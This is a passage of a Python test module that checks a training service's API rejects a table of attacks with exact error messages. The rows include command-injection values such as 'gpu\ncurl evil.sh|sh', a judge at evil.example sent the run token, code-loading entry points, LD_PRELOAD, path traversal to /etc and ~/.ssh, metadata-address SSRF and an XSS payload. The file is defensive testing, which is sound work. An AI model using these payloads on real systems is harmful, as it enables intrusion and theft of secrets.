"""The attack table (docs/reliability-and-security.md, "Attacks"): one row per attack, each sent to the
real app (Postgres, Redis) and answered with an exact status and a one-line answer that names the key.

Every row is an :class:`Attack`: what an attacker tries, the route, and the answer expected (status and the start
of the one-line ``detail``; ``{run}``, ``{owner}``, ... stand for the module's ids and names). The same table is
``benchmarks/results/attacks.json`` and the docs page's table: :func:`test_the_table_is_the_results_file_and_the_readme`
fails when either differs from this module (``python -m tests.service.test_attacks`` rewrites both).

The actors: ``alice`` (member) owns a running run with a checkpoint, a completed run, a run rule, a global rule and
a webhook endpoint with a delivery; ``bob`` is another member, ``viewer`` a viewer, ``reader`` alice's read-only
token. Webhooks are judged with ``WEBHOOK_ALLOW_PRIVATE`` off (the service's default).
"""

from __future__ import annotations

import json
import re
import secrets
import shutil
import socket
import sys
import tempfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from tests.service.test_lifecycle import checkpoint, set_status
from tests.support.server import BAD_MODEL, STATE, new_token, run_token_headers, spec
from tests.support.webui import login

ROOT = Path(__file__).resolve().parents[2]
RESULTS = ROOT / "benchmarks/results/attacks.json"
README = ROOT / "docs" / "reliability-and-security.md"


@dataclass
class Ctx:
    """What the rows act on (made once per module by the ``ctx`` fixture)."""

    api: Any
    """TestClient without cookies (API calls carry their token)."""
    web: dict[str, tuple[Any, str]]
    """Dashboard clients logged in as alice, bob and viewer, with their CSRF tokens."""
    h: dict[str, dict[str, str]]
    """Authorization headers: alice, bob, viewer, reader (alice read-only), admin."""
    ids: dict[str, Any] = field(default_factory=dict)
    """run, ended, rule, global_rule, hook, delivery, revision; owner (alice's name), viewer (its name)."""


@dataclass(frozen=True)
class Attack:
    attack: str
    """What is tried (the table's first column)."""
    route: str
    status: int
    answer: str
    """Start of the one-line ``detail`` (JSON), of the dashboard's inline error, or of ``-> <Location>``."""
    send: Callable[[Ctx], Any]

    def expected(self, ids: dict[str, Any]) -> str:
        return self.answer.format(**ids)


def answer(resp: Any) -> str:
    """The one-line answer of a response: a redirect's target, the JSON ``detail``, the dashboard's inline error,
    else the body's first 200 characters."""
    if resp.status_code in (302, 303):
        return f"-> {resp.headers['location']}"
    if resp.headers.get("content-type", "").startswith("application/json"):
        body = resp.json()
        return str(body.get("detail", body)) if isinstance(body, dict) else str(body)
    m = re.search(r'role="alert"[^>]*>([^<]*)<', resp.text)
    return m.group(1).replace("&#39;", "'").replace("&quot;", '"').replace("&amp;", "&") if m else resp.text[:200]


# ----------------------------------------------------------------------------- how rows send


def submit(**overrides: Any) -> Callable[[Ctx], Any]:
    """POST /api/runs as alice with the test spec plus ``overrides`` (dotted keys become nested tables)."""

    def send(c: Ctx) -> Any:
        body = spec()
        for key, value in overrides.items():
            table = body
            *parents, last = key.split(".")
            for p in parents:
                table = table.setdefault(p, {})
            table[last] = value
        return c.api.post("/api/runs", json=body, headers=c.h["alice"])

    return send


def raw(method: str, path: str, body: bytes, ctype: str | None, who: str = "alice") -> Callable[[Ctx], Any]:
    def send(c: Ctx) -> Any:
        headers = dict(c.h[who]) | ({"content-type": ctype} if ctype else {})
        return c.api.request(method, path.format(**c.ids), content=body, headers=headers)

    return send


def call(method: str, path: str, body: Any = None, who: str = "alice", **kw: Any) -> Callable[[Ctx], Any]:
    def send(c: Ctx) -> Any:
        headers = c.h[who] if who in c.h else run_token_headers(c.ids[who])
        return c.api.request(method, path.format(**c.ids), json=body, headers=headers, **kw)

    return send


def form(path: str, who: str, data: dict[str, str] | None = None, csrf: str | None = "own") -> Callable[[Ctx], Any]:
    """POST a dashboard form as ``who`` (``csrf``: ``own`` its session's token, ``None`` none, else that value)."""

    def send(c: Ctx) -> Any:
        client, token = c.web[who]
        fields = dict(data or {}) | ({"csrf": token if csrf == "own" else csrf} if csrf is not None else {})
        return client.post(path.format(**c.ids), data=fields, follow_redirects=False)

    return send


@contextmanager
def private_webhooks(allowed: bool) -> Iterator[None]:
    from server.core.config import settings

    before = settings.WEBHOOK_ALLOW_PRIVATE
    settings.WEBHOOK_ALLOW_PRIVATE = allowed
    try:
        yield
    finally:
        settings.WEBHOOK_ALLOW_PRIVATE = before


def hook(url: str) -> Callable[[Ctx], Any]:
    return call("POST", "/api/webhooks", {"url": url})


def hook_via_dns(name: str, address: str) -> Callable[[Ctx], Any]:
    """A webhook to ``name``, which the resolver answers with ``address`` (the guard's own look-up is pointed there:
    no DNS server here serves such a name)."""

    def send(c: Ctx) -> Any:
        real = socket.getaddrinfo

        def fake(host: Any, *args: Any, **kw: Any) -> Any:
            if host == name:
                family = socket.AF_INET6 if ":" in address else socket.AF_INET
                return [(family, socket.SOCK_STREAM, 6, "", (address, 80))]
            return real(host, *args, **kw)

        socket.getaddrinfo = fake
        try:
            return hook(f"http://{name}/hook")(c)
        finally:
            socket.getaddrinfo = real

    return send


def nested_json(depth: int) -> bytes:
    return (
        b'{"name": "deep", "model": {"name": "x"}, "env": {"args": ' + b'{"a": ' * depth + b"1" + b"}" * depth + b"}}"
    )


def upload(text: str, filename: str = "rl.toml") -> Callable[[Ctx], Any]:
    def send(c: Ctx) -> Any:
        return c.api.post("/api/runs", files={"file": (filename, text.encode(), "text/plain")}, headers=c.h["alice"])

    return send


def launch_form(toml: str) -> Callable[[Ctx], Any]:
    return form("/launch", "alice", {"spec": toml})


def symlink_model(c: Ctx) -> Any:
    """A link inside a model root (the test's /tmp) that points at /etc."""
    link = STATE / f"model-link-{secrets.token_hex(3)}"
    link.symlink_to("/etc")
    return submit(**{"model.name": str(link)})(c)


def swapped_link_at_launch(c: Ctx) -> Any:
    """Bob submits an SFT run of his own model folder through a link (``{state}/swap``); while the run waits for a
    slot he points the link at alice's completed run's ``final/``. The launch checks the paths again as the submit
    did; the answer is the run's status and reason (the supervisor's start is a stub: nothing runs either way)."""
    from server.jobs import tasks

    mine, link = STATE / "bobs-model", STATE / "swap"
    mine.mkdir(exist_ok=True)
    (mine / "config.json").write_text("{}")
    link.unlink(missing_ok=True)
    link.symlink_to(mine)
    body = {"kind": "sft", "name": f"swap-{secrets.token_hex(3)}", "max_steps": 2, "model": {"name": str(link)}}
    made = c.api.post("/api/runs", json=body, headers=c.h["bob"])
    assert made.status_code == 201, made.text
    theirs = Path(c.api.get(f"/api/runs/{c.ids['ended']}", headers=c.h["alice"]).json()["run_dir"]) / "final"
    theirs.mkdir(parents=True, exist_ok=True)
    (theirs / "config.json").write_text("{}")
    link.unlink()
    link.symlink_to(theirs)

    def not_started(*_args: Any, **_kw: Any) -> int:
        raise OSError("started (the attack test's stub)")

    real, tasks.supervisor.start = tasks.supervisor.start, not_started  # type: ignore[assignment]
    try:
        tasks.launch(made.json()["id"])
    finally:
        tasks.supervisor.start = real  # type: ignore[method-assign]
    resp = c.api.get(f"/api/runs/{made.json()['id']}", headers=c.h["bob"])
    resp._content = json.dumps({"detail": f"{resp.json()['status']}: {resp.json()['status_reason']}"}).encode()  # noqa: SLF001
    return resp


def unknown_model_type(c: Ctx) -> Any:
    """A LoRA run of a model folder whose ``config.json`` names no model type (transformers: "Unrecognized model")."""
    folder = STATE / "no-model-type"
    folder.mkdir(exist_ok=True)
    (folder / "config.json").write_text("{}")
    return submit(**{"model.name": str(folder), "trainer.lora": {"target_modules": ["q_proj"]}})(c)


def hub_model(name: str, *, cached: bool) -> Callable[[Ctx], Any]:
    """A run of the hub id ``name`` with hub downloads off (``HF_HUB_OFFLINE``), the model in this machine's hub
    cache (``cached``: a ``config.json`` of a fresh cache folder) or not."""

    def send(c: Ctx) -> Any:
        from huggingface_hub import constants

        from server.core.config import settings

        cache = STATE / f"hub-{secrets.token_hex(3)}"
        if cached:
            snapshot = cache / f"models--{name.replace('/', '--')}" / "snapshots" / ("0" * 40)
            snapshot.mkdir(parents=True)
            (snapshot / "config.json").write_text("{}")
            (cache / f"models--{name.replace('/', '--')}" / "refs").mkdir()
            (cache / f"models--{name.replace('/', '--')}" / "refs" / "main").write_text("0" * 40)
        before = settings.HF_HUB_OFFLINE, constants.HF_HUB_CACHE
        settings.HF_HUB_OFFLINE, constants.HF_HUB_CACHE = True, str(cache)
        try:
            resp = submit(**{"model.name": name})(c)
        finally:
            settings.HF_HUB_OFFLINE, constants.HF_HUB_CACHE = before
        if resp.status_code == 201:  # what was made: the run is queued with the hub id
            body = resp.json()
            resp._content = json.dumps({"detail": f"queued: {body['spec']['model']['name']}"}).encode()  # noqa: SLF001
        return resp

    return send


def allowed_package_env(c: Ctx) -> Any:
    """An environment of an allowed package (``ALLOWED_CODE_PACKAGES``) with arguments, from a member."""
    from server.core.config import settings

    before = settings.ALLOWED_CODE_PACKAGES
    settings.ALLOWED_CODE_PACKAGES = ["asyncrl_example_plugins"]
    try:
        return submit(**{"env.id": "asyncrl_example_plugins.envs:make", "env.args": {"prompt_file": "/etc/passwd"}})(c)
    finally:
        settings.ALLOWED_CODE_PACKAGES = before


def xss_page(payload_at: str) -> Callable[[Ctx], Any]:
    """Store ``<script>`` through ``payload_at`` (a run's spec value, a status reason, a webhook name), then read
    the dashboard page that shows it: the answer is whether it came back escaped."""
    payload = f"<script>alert('{secrets.token_hex(3)}')</script>"

    def send(c: Ctx) -> Any:
        client, _ = c.web["alice"]
        if payload_at == "spec":
            run = submit(**{"monitor.wandb.project": payload})(c).json()
            page = client.get("/compare", params={"run": [run["id"], c.ids["run"]]})  # the spec keys that differ
        elif payload_at == "reason":
            run = submit()(c).json()
            resp = c.api.post(
                f"/api/runs/{run['id']}/status",
                json={"status": "starting", "reason": payload},
                headers=run_token_headers(run["id"]),
            )
            assert resp.status_code == 200, resp.text
            page = client.get(f"/runs/{run['id']}")
        else:
            resp = c.api.post(
                "/api/webhooks", json={"url": "https://93.184.215.14/hook", "name": payload}, headers=c.h["alice"]
            )
            assert resp.status_code == 201, resp.text
            page = client.get("/alerts")
        escaped = payload.replace("<", "&lt;").replace(">", "&gt;").replace("'", "&#39;")
        assert page.status_code == 200
        shown = "escaped" if escaped in page.text and payload not in page.text else "NOT ESCAPED"
        page._content = json.dumps({"detail": f"{shown}: &lt;script&gt;"}).encode()  # noqa: SLF001
        page.headers["content-type"] = "application/json"
        return page

    return send


def internal_error_body(c: Ctx) -> Any:
    """An admin allowed private receivers; one on loopback answers 500 with its secrets. The delivery's error, as
    bob sees it (alice and admins see ``HTTP 500 (body not kept: an internal address)``)."""
    import threading
    from http.server import BaseHTTPRequestHandler, HTTPServer

    from sqlmodel import Session

    from server.alerts import webhooks
    from server.alerts.models import WebhookDelivery
    from server.core.db import engine

    class Leaky(BaseHTTPRequestHandler):
        def do_POST(self) -> None:  # noqa: N802 - the http.server name
            self.send_response(500)
            self.end_headers()
            self.wfile.write(b"internal: DATABASE_URL=postgresql://admin:hunter2@db/prod")

        def log_message(self, *args: Any) -> None:
            pass

    server = HTTPServer(("127.0.0.1", 0), Leaky)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        with private_webhooks(True):
            made = c.api.post(
                "/api/webhooks", json={"url": f"http://127.0.0.1:{server.server_port}/h"}, headers=c.h["alice"]
            )
            assert made.status_code == 201, made.text
            with Session(engine) as s:
                row = WebhookDelivery(
                    endpoint_id=made.json()["id"],
                    event_id=c.ids["event"],
                    idempotency_key=secrets.token_hex(8),
                    body="{}",
                )
                s.add(row)
                s.commit()
                s.refresh(row)
                outcome, _ = webhooks.attempt(s, row.id or 0)
                assert outcome.startswith("retry:"), outcome
                stored = s.get(WebhookDelivery, row.id).last_error  # type: ignore[union-attr]
            assert stored == "HTTP 500 (body not kept: an internal address)"
        resp = c.api.get(f"/api/webhooks/{made.json()['id']}/deliveries", headers=c.h["bob"])
        assert resp.status_code == 200, resp.text
        resp._content = json.dumps({"detail": resp.json()["data"][0]["last_error"]}).encode()  # noqa: SLF001
        return resp
    finally:
        server.shutdown()
        server.server_close()


# ----------------------------------------------------------------------------- the table

NOT_ALLOWED = "is not allowed in a run submitted to the service"
BELONGS = "run {run} belongs to {owner}: only its owner or an admin may "
VIEWER = "user '{viewer}' is a viewer: viewers may only read"
ENDED = "run {ended} has ended (completed): its run token no longer writes"
SSRF = "url: {host} resolves to {shown}, "
METRIC = {"points": [{"source": "trainer", "step": 1, "name": "loss", "value": 1.0, "time": 1.0}]}

CODE = [
    Attack(
        "env.id = os:system",
        "POST /api/runs",
        422,
        "env.id: 'os:system' " + NOT_ALLOWED,
        submit(**{"env.id": "os:system"}),
    ),
    Attack(
        "env.id = subprocess:run",
        "POST /api/runs",
        422,
        "env.id: 'subprocess:run' " + NOT_ALLOWED,
        submit(**{"env.id": "subprocess:run"}),
    ),
    Attack(
        "env.id = builtins:exec",
        "POST /api/runs",
        422,
        "env.id: 'builtins:exec' " + NOT_ALLOWED,
        submit(**{"env.id": "builtins:exec"}),
    ),
    Attack(
        "env.args: a reward function from a .py file (verifiers executes it)",
        "POST /api/runs",
        422,
        "env.args.task: not an argument a submitted spec may give 'reverse_text'; allowed: max_chars, min_chars, "
        "num_eval, num_train, system_message",
        submit(**{"env.args": {"task": {"rewards": {"r": {"fn": "path/to/evil.py:f"}}}}}),
    ),
    Attack(
        "env.args.system_prompt = the server's secret key file (read into every prompt)",
        "POST /api/runs",
        422,
        "env.args.system_prompt: not an argument a submitted spec may give 'reverse_text'",
        submit(**{"env.args": {"system_prompt": "/root/.asyncrl/secret_key"}}),
    ),
    Attack(
        "env.args: a judge at an address of the submitter's, sent the run token",
        "POST /api/runs",
        422,
        "env.args.task: not an argument a submitted spec may give 'reverse_text'",
        submit(
            **{
                "env.args": {
                    "task": {
                        "judges": [{"id": "j", "base_url": "http://evil.example", "api_key_var": "ASYNCRL_RUN_TOKEN"}]
                    }
                }
            }
        ),
    ),
    Attack(
        "env.args of an installed package's environment, from a member",
        "POST /api/runs",
        422,
        "env.args: environment 'asyncrl_example_plugins.envs:make' declares no arguments the service can check",
        allowed_package_env,
    ),
    Attack(
        "orchestrator.harness.id = bash (model-written shell commands), from a member",
        "POST /api/runs",
        422,
        "orchestrator.harness.id: 'bash' runs model-written commands or an agent program on the worker; allowed: null",
        submit(**{"orchestrator.harness.id": "bash"}),
    ),
    Attack(
        "env.id = an installed package not allowed (pickle:loads)",
        "POST /api/runs",
        422,
        "env.id: 'pickle:loads' " + NOT_ALLOWED,
        submit(**{"env.id": "pickle:loads"}),
    ),
    Attack(
        "env.id = asyncrl's own module by path (worker.launchers.supervisor:detach)",
        "POST /api/runs",
        422,
        "env.id: 'worker.launchers.supervisor:detach' " + NOT_ALLOWED,
        submit(**{"env.id": "worker.launchers.supervisor:detach"}),
    ),
    Attack(
        "env.id = a private attribute (worker.envs:_resolve)",
        "POST /api/runs",
        422,
        "env.id: 'worker.envs:_resolve' " + NOT_ALLOWED,
        submit(**{"env.id": "worker.envs:_resolve"}),
    ),
    Attack(
        "orchestrator.harness.id = os",
        "POST /api/runs",
        422,
        "orchestrator.harness.id: 'os' " + NOT_ALLOWED,
        submit(**{"orchestrator.harness.id": "os"}),
    ),
    Attack(
        "orchestrator.harness.id = a hub module (evil/pwn@1.0)",
        "POST /api/runs",
        422,
        "orchestrator.harness.id: 'evil/pwn@1.0' " + NOT_ALLOWED,
        submit(**{"orchestrator.harness.id": "evil/pwn@1.0"}),
    ),
    Attack(
        "inference.extra_args loads code (--worker-extension-cls)",
        "POST /api/runs",
        422,
        "inference.extra_args.0: '--worker-extension-cls' " + NOT_ALLOWED,
        submit(**{"inference.extra_args": ["--worker-extension-cls=os.system"]}),
    ),
    Attack(
        "inference.extra_args --trust-remote-code",
        "POST /api/runs",
        422,
        "inference.extra_args.0: '--trust-remote-code' " + NOT_ALLOWED,
        submit(**{"inference.extra_args": ["--trust-remote-code"]}),
    ),
    Attack(
        "inference.extra_args --trust-remote-code with an em dash (not the flag, not a value either)",
        "POST /api/runs",
        422,
        "inference.extra_args.0: '\u2014trust-remote-code' is no flag and follows no flag that takes a value (vLLM would "
        "take it as the model); allowed: --block-size VALUE, ",
        submit(**{"inference.extra_args": ["\u2014trust-remote-code"]}),
    ),
    Attack(
        "inference.extra_args -9.trust_remote_code true (vLLM's argparse dies at launch)",
        "POST /api/runs",
        422,
        "inference.extra_args.0: '-9.trust_remote_code' " + NOT_ALLOWED,
        submit(**{"inference.extra_args": ["-9.trust_remote_code", "true"]}),
    ),
    Attack(
        "inference.extra_args: a bare value (vllm serve takes it as the model to load)",
        "POST /api/runs",
        422,
        "inference.extra_args.0: 'outputs/runs/2/reverse-text-rl/final' is no flag and follows no flag that takes a "
        "value (vLLM would take it as the model)",
        submit(**{"inference.extra_args": ["outputs/runs/2/reverse-text-rl/final"]}),
    ),
    Attack(
        "inference.extra_args: a flag as the value of an allowed flag (--max-num-seqs --trust-remote-code)",
        "POST /api/runs",
        422,
        "inference.extra_args.1: '--trust-remote-code' is not a value of --max-num-seqs; expected a number or a name",
        submit(**{"inference.extra_args": ["--max-num-seqs", "--trust-remote-code"]}),
    ),
    Attack(
        "inference.extra_args of 10,000 items",
        "POST /api/runs",
        422,
        "inference.extra_args: List should have at most 64 items after validation, not 10000",
        submit(**{"inference.extra_args": ["--enable-prefix-caching"] * 10_000}),
    ),
    Attack(
        "launcher.slurm.extra_sbatch writes a file (--output=/etc/cron.d/x)",
        "POST /api/runs",
        422,
        "launcher.slurm.extra_sbatch: '--output' " + NOT_ALLOWED,
        submit(**{"launcher.slurm.extra_sbatch": ["--output=/etc/cron.d/x"]}),
    ),
    Attack(
        "launcher.slurm.env LD_PRELOAD",
        "POST /api/runs",
        422,
        "launcher.slurm.env: 'LD_PRELOAD' " + NOT_ALLOWED,
        submit(**{"launcher.slurm.env": {"LD_PRELOAD": "/tmp/x.so"}}),
    ),
    Attack(
        "launcher.slurm.env NCCL_NET_PLUGIN (loads a shared library)",
        "POST /api/runs",
        422,
        "launcher.slurm.env: 'NCCL_NET_PLUGIN' " + NOT_ALLOWED,
        submit(**{"launcher.slurm.env": {"NCCL_NET_PLUGIN": "/tmp/x.so"}}),
    ),
    Attack(
        "launcher.slurm.extra_sbatch hides --output after an allowed option",
        "POST /api/runs",
        422,
        "launcher.slurm.extra_sbatch: expected one option per entry like '--constraint=a100'",
        submit(**{"launcher.slurm.extra_sbatch": ["--qos=normal --output=/tmp/x"]}),
    ),
    Attack(
        "launcher.slurm.allocation: a member runs inside another job",
        "POST /api/runs",
        403,
        "launcher.slurm.allocation: only an admin may run inside an existing allocation (job 7)",
        submit(**{"launcher.slurm.allocation": "7"}),
    ),
    Attack(
        "model.name of 5000 characters",
        "POST /api/runs",
        422,
        "model.name: String should have at most 4096 characters",
        submit(**{"model.name": "m" * 5000}),
    ),
    Attack(
        "env.args of 300 KB (every run list carries the spec)",
        "POST /api/runs",
        413,
        "body: larger than 262144 bytes",
        submit(**{"env.args": {"system_prompt": "s" * 300_000}}),
    ),
    Attack(
        "a JSON number of 4301 digits",
        "POST /api/runs",
        422,
        "body: a number has more than 4300 digits",
        raw("POST", "/api/runs", b'{"max_steps": ' + b"1" * 4301 + b"}", "application/json"),
    ),
    Attack(
        "launcher.slurm.partition with a newline (shell line in the job script)",
        "POST /api/runs",
        422,
        "launcher.slurm.partition: expected a Slurm name",
        submit(**{"launcher.slurm.partition": "gpu\ncurl evil.sh|sh"}),
    ),
    Attack(
        "launcher.slurm.env value with a newline (an export line of the job script)",
        "POST /api/runs",
        422,
        "launcher.slurm.env: expected values without control characters (newline, CR, NUL, tab; each value is "
        "shell-quoted in the job script), got NCCL_DEBUG='INFO\\ncurl evil.sh|sh'",
        submit(**{"launcher.slurm.env": {"NCCL_DEBUG": "INFO\ncurl evil.sh|sh"}}),
    ),
    Attack(
        "launcher.slurm.inference_port 22 (a system service's port)",
        "POST /api/runs",
        422,
        "launcher.slurm.inference_port: expected a port from 1024 to 65535 (below 1024: system services' ports), got 22",
        submit(**{"launcher.slurm.inference_port": 22}),
    ),
    Attack(
        "data.split ../../etc (an SFT run's dataset split)",
        "POST /api/runs",
        422,
        "data.split: expected a split name of 1-100 letters, digits, '_', '-', '.', '[', ']', ':', '%' (no '/', no "
        "'..'), got '../../etc'",
        submit(**{"kind": "sft", "data.split": "../../etc"}),
    ),
    Attack(
        "env.id = os:system in a TOML upload",
        "POST /api/runs (file)",
        422,
        "env.id: 'os:system' " + NOT_ALLOWED,
        upload('name = "up"\n[model]\nname = "/nonexistent/m"\n[env]\nid = "os:system"\n'),
    ),
    Attack(
        "env.id = os:system in the launch form",
        "POST /launch",
        422,
        "env.id: 'os:system' " + NOT_ALLOWED,
        launch_form('name = "form"\n[model]\nname = "/nonexistent/m"\n[env]\nid = "os:system"\n'),
    ),
    Attack(
        "env.id = os:system in a fork's changes",
        "POST /api/runs/{id}/fork",
        422,
        "env.id: 'os:system' " + NOT_ALLOWED,
        call("POST", "/api/runs/{run}/fork", {"changes": {"env.id": "os:system"}}),
    ),
]

ADDRESSES = [
    Attack(
        "inference.url = metadata (169.254.169.254)",
        "POST /api/runs",
        422,
        "inference.url: 'http://169.254.169.254/' " + NOT_ALLOWED,
        submit(**{"inference.url": "http://169.254.169.254/"}),
    ),
    Attack(
        "inference.url = a foreign host (10.0.0.1)",
        "POST /api/runs",
        422,
        "inference.url: 'http://10.0.0.1:8000' " + NOT_ALLOWED,
        submit(**{"inference.url": "http://10.0.0.1:8000"}),
    ),
    Attack(
        "inference.url = a DNS name",
        "POST /api/runs",
        422,
        "inference.url: 'http://vllm.attacker.example' " + NOT_ALLOWED,
        submit(**{"inference.url": "http://vllm.attacker.example"}),
    ),
    Attack(
        "inference.urls = a loopback replica and a foreign host",
        "POST /api/runs",
        422,
        "inference.urls.1: 'http://10.0.0.1:8000' " + NOT_ALLOWED,
        submit(**{"inference.urls": ["http://127.0.0.1:8000", "http://10.0.0.1:8000"]}),
    ),
    Attack(
        "inference.host = 0.0.0.0 (vLLM's weight routes on the network)",
        "POST /api/runs",
        422,
        "inference.host: '0.0.0.0' " + NOT_ALLOWED,
        submit(**{"inference.host": "0.0.0.0"}),
    ),
    Attack(
        "trainer.weight_sync.master_addr = a foreign host",
        "POST /api/runs",
        422,
        "trainer.weight_sync.master_addr: '10.0.0.1' " + NOT_ALLOWED,
        submit(**{"trainer.weight_sync.master_addr": "10.0.0.1"}),
    ),
    Attack(
        "model.name = /etc",
        "POST /api/runs",
        422,
        "model.name: '/etc' " + NOT_ALLOWED,
        submit(**{"model.name": "/etc"}),
    ),
    Attack(
        "model.name = /proc/self/root",
        "POST /api/runs",
        422,
        "model.name: '/proc/self/root' " + NOT_ALLOWED,
        submit(**{"model.name": "/proc/self/root"}),
    ),
    Attack(
        "model.name = ../../etc (traversal)",
        "POST /api/runs",
        422,
        "model.name: '../../etc' " + NOT_ALLOWED,
        submit(**{"model.name": "../../etc"}),
    ),
    Attack(
        "model.name = a root/../.. traversal",
        "POST /api/runs",
        422,
        "model.name: '/nonexistent/../etc' " + NOT_ALLOWED,
        submit(**{"model.name": "/nonexistent/../etc"}),
    ),
    Attack(
        "model.name = ~/.ssh",
        "POST /api/runs",
        422,
        "model.name: '~/.ssh' " + NOT_ALLOWED,
        submit(**{"model.name": "~/.ssh"}),
    ),
    Attack("model.name = a symlink in a model root to /etc", "POST /api/runs", 422, "model.name: ", symlink_model),
    Attack(
        "model.name = a link to the submitter's model, pointed into another user's run folder before the launch",
        "launch_run (queued run)",
        200,
        "failed: refused at launch: model.name: '{state}/swap' is inside the folder of run {ended}, which is not yours: "
        "only a run's owner or an admin may use its files",
        swapped_link_at_launch,
    ),
    Attack(
        "model.name = a hub id not on this machine, hub downloads off (HF_HUB_OFFLINE)",
        "POST /api/runs",
        422,
        "model.name: 'nosuchorg/nosuchmodel' is not a model folder under MODEL_ROOTS ({model_roots}) nor a model in "
        "this machine's hub cache, and hub downloads are off (HF_HUB_OFFLINE); give a model folder's path",
        hub_model("nosuchorg/nosuchmodel", cached=False),
    ),
    Attack(
        "model.name = a hub id in this machine's hub cache, hub downloads off",
        "POST /api/runs",
        201,
        "queued: cachedorg/tiny",
        hub_model("cachedorg/tiny", cached=True),
    ),
    Attack(
        "model.name = a folder whose config.json names no model type (LoRA checked at submit)",
        "POST /api/runs",
        422,
        "model.name: '{state}/no-model-type' is not a model folder transformers can load (config.json has no known "
        "model_type)",
        unknown_model_type,
    ),
    Attack(
        "a multipart upload without a boundary",
        "POST /api/runs (file)",
        400,
        "file: not a readable multipart upload (Missing boundary in multipart.)",
        raw("POST", "/api/runs", b"x", "multipart/form-data"),
    ),
    Attack(
        "model.name traversal in a fork's changes",
        "POST /api/runs/{id}/fork",
        422,
        "model.name: '/etc/ssh' " + NOT_ALLOWED,
        call("POST", "/api/runs/{run}/fork", {"changes": {"model.name": "/etc/ssh"}}),
    ),
    Attack(
        "output_dir = /etc (the service chooses the run folder)",
        "POST /api/runs",
        422,
        "output_dir: the service chooses the run folder",
        submit(output_dir="/etc"),
    ),
    Attack(
        "run name ../../etc (a directory name)",
        "POST /api/runs",
        422,
        "name: expected 1-100 characters",
        submit(name="../../etc"),
    ),
]

LIMITS = [
    Attack(
        "orchestrator.group_size = 1e9",
        "POST /api/runs",
        422,
        "orchestrator.group_size: ",
        submit(**{"orchestrator.group_size": 10**9}),
    ),
    Attack(
        "max_steps = 1e12",
        "POST /api/runs",
        422,
        "max_steps: Input should be less than or equal to 1000000",
        submit(max_steps=10**12),
    ),
    Attack(
        "trainer.optim.lr = 1e9",
        "POST /api/runs",
        422,
        "trainer.optim.lr: Input should be less than or equal to",
        submit(**{"trainer.optim.lr": 1e9}),
    ),
    Attack(
        "trainer.threads = 1e6",
        "POST /api/runs",
        422,
        "trainer.threads: Input should be less than or equal to 1024",
        submit(**{"trainer.threads": 10**6}),
    ),
    Attack(
        "1024 trainer processes",
        "POST /api/runs",
        422,
        "launcher.local.trainer_processes: Input should be less than or equal to 256",
        submit(**{"launcher.local.trainer_processes": 1024}),
    ),
    Attack("seed = 2**64", "POST /api/runs", 422, "seed: Input should be less than 4294967296", submit(seed=2**64)),
    Attack("max_steps = true", "POST /api/runs", 422, "max_steps: ", submit(max_steps=True)),
    Attack(
        "10,000 alert rules in one spec",
        "POST /api/runs",
        422,
        "alerts: at most 100 alert rules per run, got 10000",
        submit(alerts=[{}] * 10_000),
    ),
    Attack(
        "JSON nested 10,000 deep",
        "POST /api/runs",
        422,
        "body: nested deeper than 32 levels",
        raw("POST", "/api/runs", nested_json(10_000), "application/json"),
    ),
    Attack(
        "TOML nested 2,000 deep (upload)",
        "POST /api/runs (file)",
        422,
        "file: nested deeper than 32 levels",
        upload("a = " + "[" * 2000 + "]" * 2000 + "\n"),
    ),
    Attack(
        "TOML nested 2,000 deep (launch form)",
        "POST /launch",
        422,
        "spec: nested deeper than 32 levels",
        launch_form("a = " + "[" * 2000 + "]" * 2000 + "\n"),
    ),
    Attack(
        "body of 300 KiB (limit 256 KiB in the tests)",
        "POST /api/runs",
        413,
        "body: larger than 262144 bytes",
        raw("POST", "/api/runs", b'{"x": "' + b"a" * 300_000 + b'"}', "application/json"),
    ),
    Attack(
        "a TOML upload of 300 KB (a spec file may be 256 KiB)",
        "POST /api/runs (file)",
        413,
        "file: larger than 262144 bytes (256 KiB)",
        upload(f'name = "big"\nmax_steps = 3\nmodel.name = "{BAD_MODEL}"\n# ' + "x" * 300_000 + "\n"),
    ),
    Attack(
        "a pasted spec of 300 KB (launch form)",
        "POST /launch",
        413,
        "spec: larger than 262144 bytes (256 KiB)",
        launch_form(f'name = "big"\nmax_steps = 3\nmodel.name = "{BAD_MODEL}"\n# ' + "x" * 300_000 + "\n"),
    ),
    Attack(
        "2,001 metric points in one batch (limit 2,000 in the tests)",
        "POST /api/runs/{id}/metrics",
        413,
        "points: 2001 in one batch, at most 2000",
        call("POST", "/api/runs/{run}/metrics", {"points": METRIC["points"] * 2001}),
    ),
    Attack(
        "run id 2**63",
        "GET /api/runs/{id}",
        404,
        "run 9223372036854775808 not found",
        call("GET", "/api/runs/9223372036854775808"),
    ),
]

BODIES = [
    Attack(f"{what} body", f"{method} {shown}", status, text, raw(method, path, body, ctype))
    for method, path, shown in (
        ("POST", "/api/runs", "/api/runs"),
        ("POST", "/api/runs/{run}/fork", "/api/runs/{id}/fork"),
        ("PATCH", "/api/runs/{run}/config", "/api/runs/{id}/config"),
        ("POST", "/api/runs/{run}/metrics", "/api/runs/{id}/metrics"),
        ("POST", "/api/runs/{run}/alerts/rules", "/api/runs/{id}/alerts/rules"),
        ("POST", "/api/alerts/rules", "/api/alerts/rules"),
        ("POST", "/api/webhooks", "/api/webhooks"),
    )
    for what, body, ctype, status, text in (
        ("unparsable JSON", b'{"name": ', "application/json", 400, "body: not valid JSON ("),
        ("empty", b"", "application/json", 400, "body: empty: send a JSON object"),
        ("text/plain", b"{}", "text/plain", 415, "content-type 'text/plain': send "),
        ("JSON array instead of an object", b"[1, 2]", "application/json", 422, "body: expected a JSON object"),
    )
]

AUTH = [
    Attack(
        "no token",
        "POST /api/runs",
        401,
        "missing token: send 'Authorization: Bearer <token>'",
        raw("POST", "/api/runs", b"{}", "application/json", who="none"),
    ),
    Attack(
        "Basic instead of Bearer",
        "GET /api/runs",
        401,
        "malformed Authorization header: expected 'Bearer <token>'",
        call("GET", "/api/runs", who="basic"),
    ),
    Attack("forged token", "GET /api/runs", 401, "invalid token", call("GET", "/api/runs", who="forged")),
    Attack(
        "revoked token", "GET /api/runs", 401, "token '{gone}' was revoked", call("GET", "/api/runs", who="revoked")
    ),
    Attack(
        "a completed run's token writes metrics",
        "POST /api/runs/{id}/metrics",
        401,
        ENDED,
        call("POST", "/api/runs/{ended}/metrics", METRIC, who="ended"),
    ),
    Attack(
        "a completed run's token reports a status",
        "POST /api/runs/{id}/status",
        401,
        ENDED,
